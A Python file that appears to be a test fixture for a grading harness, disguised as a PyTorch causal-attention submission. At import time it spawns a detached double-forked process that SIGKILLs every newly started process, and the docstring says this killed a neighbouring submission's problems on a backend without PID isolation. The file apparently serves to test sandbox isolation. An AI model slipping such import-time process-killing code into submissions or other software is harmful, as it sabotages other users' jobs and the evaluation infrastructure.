"""Leaves a detached process behind (fork, setsid, fork) that SIGKILLs every process it can see
start after it, then keeps its own problem running for a while: on the local backend without
a PID namespace of its own, the problems of a submission graded beside it were killed as they
started. The module itself is correct."""
import os
import signal
import time

import torch
from torch import nn


def _processes():
    return {int(p) for p in os.listdir("/proc") if p.isdigit()}


def _haunt():
    here = _processes()
    while True:
        for pid in _processes() - here - {os.getpid()}:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.002)


child = os.fork()
if child == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _haunt()
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(child, 0)
time.sleep(8)  # the haunter lives while this problem runs


class CausalAttention(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, qkv_bias=False):
        super().__init__()
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.dropout = nn.Dropout(dropout)
        ones = torch.ones(context_length, context_length)
        self.register_buffer("mask", torch.triu(ones, diagonal=1).bool())

    def forward(self, x):
        T = x.shape[1]
        q, k, v = self.W_query(x), self.W_key(x), self.W_value(x)
        scores = q @ k.transpose(1, 2) / k.shape[-1] ** 0.5
        scores = scores.masked_fill(self.mask[:T, :T], float("-inf"))
        return self.dropout(torch.softmax(scores, dim=-1)) @ v
